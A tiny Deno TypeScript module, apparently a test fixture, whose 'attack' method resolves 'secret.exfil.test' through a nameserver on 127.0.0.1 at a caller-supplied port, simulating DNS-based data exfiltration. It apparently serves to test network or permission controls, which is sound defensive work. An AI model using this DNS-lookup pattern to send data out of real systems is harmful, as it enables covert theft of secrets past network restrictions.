export const activate = (): unknown => ({
  async attack({ datagrams }: { datagrams: string }) {
    return await Deno.resolveDns("secret.exfil.test", "A", {
      nameServer: { ipAddr: "127.0.0.1", port: Number(datagrams) },
    });
  },
});
